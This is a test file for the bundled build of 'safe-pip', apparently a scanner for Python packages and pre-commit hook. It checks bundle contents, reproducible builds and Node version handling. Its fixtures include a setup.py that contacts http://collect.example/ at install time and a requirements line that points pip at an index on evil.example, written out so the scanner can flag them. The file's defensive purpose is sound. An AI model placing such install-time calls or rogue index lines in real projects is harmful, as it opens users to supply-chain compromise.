import { spawnSync } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { buildSdist } from '@safe-pip/testkit/build-sdist'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { bringTestNodes } from './bring-test-nodes.ts'
import { buildBundle, writeBundle } from './build.ts'

/** A folder with no node_modules beside or above it. */
const home = mkdtempSync(join(tmpdir(), 'safe-pip-bundle-'))
const folder = join(home, 'bundle')
const nodes = bringTestNodes()
const supported = nodes.filter(({ major }) => major >= 22)
let files: ReadonlyMap<string, Uint8Array>

beforeAll(async () => {
  files = await buildBundle()
  writeBundle(files, folder)
})
afterAll(() => {
  rmSync(home, { recursive: true, force: true })
})

function run(
  node: string,
  [file = '', ...args]: readonly string[],
  cwd = home,
): { status: number | null; stdout: string; stderr: string } {
  const env = { PATH: process.env['PATH'], HOME: home }
  return spawnSync(node, [join(folder, file), ...args], { cwd, env, encoding: 'utf8' })
}

it('holds both commands, the grammar, the scripts for pip and the licences of what it is made of', () => {
  const wanted = [
    'THIRD-PARTY.txt',
    'pip-launcher.py',
    'pre-commit.mjs',
    'safe-pip.mjs',
    'tree-sitter-python.wasm',
    'web-tree-sitter.wasm',
  ]
  expect([...files.keys()].filter((name) => wanted.includes(name)).toSorted()).toEqual(wanted)
  const licences = Buffer.from(files.get('THIRD-PARTY.txt') ?? []).toString()
  for (const name of ['commander', 'tree-sitter-python']) expect(licences).toMatch(new RegExp(`^${name} \\d.*\\(MIT\\)$`, 'm'))
})

it('is the same in a second build', async () => {
  const again = await buildBundle()
  expect([...again.keys()]).toEqual([...files.keys()])
  expect([...again].filter(([name, content]) => !Buffer.from(content).equals(files.get(name) ?? Buffer.alloc(0)))).toEqual([])
})

it('imports nothing but Node itself and its own files', () => {
  const foreign = [...files].flatMap(([name, content]) =>
    name.endsWith('.mjs')
      ? [
          ...Buffer.from(content)
            .toString()
            .matchAll(/^(?:import|export)\b[^'"\n]*?(?:from )?"([^"]+)";$/gm),
        ].flatMap(([, target = '']) =>
          /^(?:node:|\.\/)/.test(target) || process.getBuiltinModule(target) !== undefined ? [] : [`${name}: ${target}`],
        )
      : [],
  )
  expect(foreign).toEqual([])
})

describe.each(supported)('Node $major', ({ path }) => {
  it('reads an sdist with the grammar that lies beside it', () => {
    const setup = 'import urllib.request\nurllib.request.urlopen("http://collect.example/")\n'
    const { bytes, filename } = buildSdist({ name: 'demo', version: '1.0', files: { 'setup.py': setup }, backend: 'none' })
    writeFileSync(join(home, filename), bytes)
    const { stdout } = run(path, [
      'safe-pip.mjs',
      '--format',
      'json',
      '--now',
      '2026-11-22T00:00:00Z',
      '--offline',
      'scan',
      filename,
    ])
    const { artifacts } = JSON.parse(stdout) as { artifacts: { findings: { rule: string; place: { line?: number } }[] }[] }
    expect(artifacts[0]?.findings.map(({ rule, place }) => [rule, place.line])).toContainEqual(['install-time-network', 2])
  })
  it('runs the command line', () => {
    expect(run(path, ['safe-pip.mjs', '--version'])).toMatchObject({
      status: 0,
      stdout: expect.stringMatching(/^safe-pip \d+\.\d+\.\d+\n$/),
      stderr: '',
    })
    expect(run(path, ['safe-pip.mjs', 'rules'])).toMatchObject({
      status: 0,
      stdout: expect.stringMatching(/^ +yanked-release /m),
    })
  })
})

describe.each(nodes.filter(({ major }) => major >= 20))('the hook on Node $major', ({ path }) => {
  it('refuses a staged line, and passes another', () => {
    const repository = mkdtempSync(join(home, 'repository-'))
    const git = (...args: string[]): void => {
      const { status, stderr } = spawnSync('git', args, { cwd: repository, encoding: 'utf8' })
      if (status !== 0) throw new Error(stderr)
    }
    git('init', '--quiet')
    const stage = (line: string): ReturnType<typeof run> => {
      writeFileSync(join(repository, 'requirements.txt'), line)
      git('add', 'requirements.txt')
      return run(path, ['pre-commit.mjs', 'requirements.txt'], repository)
    }
    expect(stage('demo @ http://pkgs.example/demo-1.0-py3-none-any.whl\n')).toMatchObject({
      status: 1,
      stdout: expect.stringMatching(/^requirements\.txt:1:1 plain-http /m),
    })
    expect(stage('# nothing\n')).toMatchObject({ status: 0 })
  })
})

describe.runIf(nodes.some(({ major }) => major < 22))('a Node that is too old', () => {
  const of = (major: number): string => nodes.find((node) => node.major === major)?.path ?? ''

  it.each([18, 20])('gets 82 and the way out from safe-pip: Node %i', (major) => {
    expect(run(of(major), ['safe-pip.mjs', '--version'])).toMatchObject({
      status: 82,
      stdout: '',
      stderr: expect.stringMatching(/needs Node 22\.19.*\n.*`npm start -- \.\.\.`/),
    })
  })
  it('runs the hook from Node 20 on', () => {
    const git = (...args: string[]): unknown =>
      spawnSync('git', args, { cwd: home, env: { PATH: process.env['PATH'], HOME: home } })
    git('init', '-q')
    writeFileSync(join(home, 'requirements.txt'), '--index-url http://evil.example/simple\nrequests\n')
    git('add', 'requirements.txt')
    expect(run(of(20), ['pre-commit.mjs', 'requirements.txt'])).toMatchObject({
      status: 1,
      stdout: expect.stringContaining('requirements.txt:1:1 undeclared-index '),
      stderr: '',
    })
  })
  it('gets 2 from the hook below Node 20', () => {
    expect(run(of(18), ['pre-commit.mjs'])).toMatchObject({ status: 2, stderr: expect.stringMatching(/needs Node 20 or newer/) })
  })
})
